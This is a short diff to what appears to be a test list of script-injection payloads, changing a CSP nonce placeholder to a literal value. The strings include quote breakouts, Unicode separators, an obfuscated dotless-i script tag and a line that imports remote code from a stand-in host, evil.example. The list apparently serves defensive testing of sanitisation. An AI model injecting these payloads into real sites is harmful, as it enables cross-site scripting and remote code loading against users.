@@ -13,7 +13,7 @@ const SCRIPTS = [
   "'-(__pwned=1)-'",
   '"+(__pwned=1)+"',
   '\u2028__pwned=1\u2029',
-  '<script nonce="__CSP_NONCE__">__pwned=1</script>',
+  '<script nonce="r4nd0m">__pwned=1</script>',
   '<script>import("https://evil.example/x.js")</script>',
   '<scr\u0131pt>__pwned=1</scr\u0131pt>',
   '<noembed><script>__pwned=1</script></noembed>',
